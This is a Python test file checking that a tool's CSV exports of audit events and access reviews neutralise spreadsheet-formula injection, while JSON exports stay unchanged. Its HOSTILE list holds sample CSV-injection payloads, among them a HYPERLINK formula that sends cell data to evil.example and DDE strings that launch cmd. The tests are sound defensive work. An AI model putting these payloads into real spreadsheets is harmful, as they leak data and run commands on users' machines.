"""CSV exports neutralise spreadsheet formulas (issue 16, item 2; OWASP "CSV Injection"): a cell starting with
``=``, ``+``, ``-``, ``@``, tab or carriage return gets a leading ``'``, except a plain number; JSON and JSONL
exports keep the values as they are."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
from typer.testing import CliRunner

from models.audit import AuditEventBase, Outcome, record_many
from models.db import session_scope
from models.review import ReviewCampaign, ReviewItem
from tenure.cli import app
from tenure.export import neutralise_cell

runner = CliRunner()

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
PLAIN_NUMBERS = ["-5", "3.2", "+7", "-0.25", "12", "1e3"]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def _neutral(cell: str) -> bool:
    if not cell.startswith(DANGEROUS_START):
        return True
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("value", HOSTILE)
def test_formulas_get_a_leading_quote(value: str) -> None:
    """Each dangerous cell is prefixed with a single quote and otherwise unchanged."""
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", [*PLAIN_NUMBERS, "Ada Lovelace", "", "E100", "a=b", "2026-01-01"])
def test_plain_numbers_and_text_are_unchanged(value: str) -> None:
    assert neutralise_cell(value) == value


def test_non_strings_are_unchanged() -> None:
    assert neutralise_cell(-5) == -5 and neutralise_cell(None) is None and neutralise_cell(True) is True


@pytest.fixture
def env(fresh_sqlite_url: str, monkeypatch: pytest.MonkeyPatch) -> str:
    from tests.unit.test_cli_foundation import POLICY

    monkeypatch.setenv("TENURE_DATABASE_URL", fresh_sqlite_url)
    monkeypatch.setenv("TENURE_POLICY_FILE", str(POLICY))
    return fresh_sqlite_url


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_audit_export_csv_is_neutral_and_jsonl_unchanged(env: str) -> None:
    """HR names, IdP user names and reasons reach the audit trail; its CSV export defuses every formula."""
    with session_scope(env) as session:
        record_many(
            session=session,
            events=[
                AuditEventBase(
                    actor=value,
                    action="idp.user.create",
                    target_system="scim",
                    target_id=value,
                    employee_id=value,
                    outcome=Outcome.FAILED,
                    reason=value,
                    details={"target": value},
                )
                for value in [*HOSTILE, *PLAIN_NUMBERS]
            ],
        )
    exported = runner.invoke(app, ["audit", "export", "--format", "csv"])
    assert exported.exit_code == 0, exported.output
    cells = _cells(exported.stdout)
    assert all(_neutral(cell) for cell in cells), [c for c in cells if not _neutral(c)]
    for value in HOSTILE:
        assert "'" + value in cells
    for number in PLAIN_NUMBERS:
        assert number in cells
    jsonl = runner.invoke(app, ["audit", "export", "--format", "jsonl"])
    reasons = [json.loads(line)["reason"] for line in jsonl.stdout.splitlines()]
    assert reasons == [*HOSTILE, *PLAIN_NUMBERS]


def test_review_export_csv_is_neutral_and_json_unchanged(env: str) -> None:
    """User names from the IdP and reviewers' names and reasons: defused in CSV, as they are in JSON."""
    now = datetime.now(UTC)
    with session_scope(env) as session:
        session.add(
            ReviewCampaign(
                id="rc-1",
                remind_at=now,
                escalate_at=now,
                deadline_at=now + timedelta(days=14),
                on_deadline="revoke",
            )
        )
        for n, value in enumerate([*HOSTILE, *PLAIN_NUMBERS]):
            session.add(
                ReviewItem(
                    campaign_id="rc-1",
                    id=f"f{n}",
                    kind="orphan",
                    employee_id=value,
                    account_id=value,
                    user_name=value,
                    group=value,
                    detail=value,
                    reviewer=value,
                    decision="keep",
                    decided_by=value,
                    reason=value,
                    action_taken=value,
                )
            )
        session.commit()
    exported = runner.invoke(app, ["review", "export", "rc-1"])
    assert exported.exit_code == 0, exported.output
    cells = _cells(exported.stdout)
    assert all(_neutral(cell) for cell in cells), [c for c in cells if not _neutral(c)]
    assert sum(cell == "'" + HOSTILE[0] for cell in cells) == 9  # every text column of that row
    as_json = json.loads(runner.invoke(app, ["review", "export", "rc-1", "--format", "json"]).stdout)
    assert sorted(row["reason"] for row in as_json) == sorted([*HOSTILE, *PLAIN_NUMBERS])
